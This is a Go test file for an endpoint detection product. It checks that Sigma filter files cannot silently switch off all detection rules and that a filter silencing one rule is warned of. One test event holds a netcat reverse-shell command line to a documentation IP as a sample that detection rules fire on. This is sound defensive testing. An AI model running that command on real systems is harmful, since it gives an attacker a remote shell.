package rules_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/yagura-edr/yagura/internal/event"
	"github.com/yagura-edr/yagura/internal/sigma"
	"github.com/yagura-edr/yagura/rules"
)

func loadWith(t *testing.T, file string) *sigma.Ruleset {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "f.yml"), []byte(file), 0o600); err != nil {
		t.Fatal(err)
	}
	set, err := rules.Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	return set
}

// The example of the filter specification, on all rules, once switched the product off without a word.
func TestOneFilterFileDoesNotSwitchTheProductOff(t *testing.T) {
	shell := &event.Event{
		Kind: event.ProcessExec, OS: event.Linux,
		Actor: event.Process{Path: "/usr/bin/nc.traditional", CommandLine: "nc -e /bin/sh 203.0.113.8 443", UserName: "root", UserID: "0", EffectiveUserID: "0"},
	}
	canary := &event.Event{Kind: event.ProcessExec, OS: event.Linux, Actor: event.Process{Path: "/usr/bin/yagura-sensor", CommandLine: "yagura-sensor canary 1", UserName: "root"}}
	hits := func(set *sigma.Ruleset, e *event.Event) int {
		var rec sigma.EventRecord
		rec.Set(e)
		return len(set.Scratch().Judge(&rec, nil))
	}
	plain := loadWith(t, "title: c\ncorrelation: {}\n")
	const start = "title: all\nid: f\nlogsource: {product: linux}\nfilter:\n  rules: any\n"
	for _, body := range []string{
		"  selection: {User|startswith: adm_}\n  condition: selection\n",
		"  selection: {User: '*'}\n  condition: not selection\n",
		"  selection: {Image|re: '^/'}\n  condition: not selection\n",
	} {
		set := loadWith(t, start+body)
		if len(set.Warnings()) == 0 || len(set.Rejected()) != 1 {
			t.Errorf("%q: warnings %v, rejected %v", body, set.Warnings(), set.Rejected())
		}
		for _, e := range []*event.Event{shell, canary} {
			if got, want := hits(set, e), hits(plain, e); got != want || want == 0 {
				t.Errorf("%q: %d hits on %s; want %d", body, got, e.Actor.CommandLine, want)
			}
		}
	}
	// One that names what it hides is applied, warned of, and does not touch the canary.
	set := loadWith(t, start+"  selection: {User: root}\n  condition: not selection\n")
	if hits(set, shell) != 0 || hits(set, canary) != hits(plain, canary) || len(set.Warnings()) == 0 || set.Warnings()[0].Class != sigma.FilterOnAll {
		t.Errorf("not root, on all: %d hits, canary %d, warnings %v", hits(set, shell), hits(set, canary), set.Warnings())
	}
}

// A filter that leaves a rule of ours without any sample that fires is warned of, by the rule's name.
func TestAFilterThatSilencesARuleOfOursIsWarnedOf(t *testing.T) {
	set, err := rules.Load()
	if err != nil {
		t.Fatal(err)
	}
	var r *sigma.Rule
	for _, x := range set.Rules() {
		if x.Source.Category == "process_creation" && !x.Whole {
			r = x
			break
		}
	}
	silenced := func(sel string) bool {
		set := loadWith(t, "title: f\nlogsource: {product: linux}\nfilter:\n  rules: ["+r.ID+"]\n  selection: {"+sel+"}\n  condition: not selection\n")
		for _, w := range set.Warnings() {
			if w.Class == sigma.SilencedRule && w.ID == r.ID && strings.Contains(w.Reason, r.Title.En) {
				return true
			}
		}
		return false
	}
	if !silenced("Image|contains: ['/bin/', '/sbin/', '/tmp/', '/opt/', '/usr/', '/home/']") {
		t.Error("no warning for a filter on every folder")
	}
	if silenced("User: backup-agent-7") {
		t.Error("a narrow filter is warned of")
	}
}
